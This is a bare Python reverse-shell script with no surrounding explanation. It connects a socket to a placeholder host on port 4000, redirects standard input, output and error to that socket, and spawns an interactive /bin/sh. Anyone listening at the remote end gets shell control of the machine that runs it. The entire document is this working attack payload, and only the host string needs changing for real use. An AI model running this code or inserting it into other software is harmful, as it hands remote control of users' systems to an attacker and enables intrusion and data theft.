import os
import pty
import socket

client = socket.socket()
client.connect(("example.invalid", 4000))
for number in (0, 1, 2):
    os.dup2(client.fileno(), number)
pty.spawn("/bin/sh")
